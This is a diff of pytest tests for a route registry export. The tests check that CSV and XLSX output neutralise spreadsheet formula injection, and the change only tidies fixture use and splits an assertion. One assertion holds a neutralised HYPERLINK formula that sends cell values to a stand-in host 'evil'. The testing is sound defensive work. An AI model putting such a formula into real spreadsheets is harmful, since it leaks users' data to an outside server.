@@ -205,7 +205,8 @@ def hostile_route(store: SqlRouteStore) -> Route:
     return route
 
 
-def test_registry_csv_neutralises_formulas(run: Invoke, hostile_route: Route) -> None:
+@pytest.mark.usefixtures("hostile_route")
+def test_registry_csv_neutralises_formulas(run: Invoke) -> None:
     result = run("routes", "export-registry", "--format", "csv", "-o", "r.csv")
     text = result.files["r.csv"].decode("utf-8-sig")
     assert '"\'=HYPERLINK(""http://evil/?leak=""&B2&C2,""x"")"' in text  # quote-prefixed and quoted
@@ -215,12 +216,14 @@ def test_registry_csv_neutralises_formulas(run: Invoke, hostile_route: Route) ->
     assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
 
 
-def test_registry_xlsx_writes_formulas_as_text(run: Invoke, hostile_route: Route) -> None:
+@pytest.mark.usefixtures("hostile_route")
+def test_registry_xlsx_writes_formulas_as_text(run: Invoke) -> None:
     result = run("routes", "export-registry", "--format", "xlsx", "-o", "r.xlsx")
     raw = result.files["r.xlsx"]
     with zipfile.ZipFile(io.BytesIO(raw)) as z:
         sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
-    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere in the sheet
+    assert "<f>" not in sheet
+    assert "<f " not in sheet
     ws = openpyxl.load_workbook(io.BytesIO(raw)).active
     assert ws is not None
     school, municipality = ws["C2"], ws["D2"]
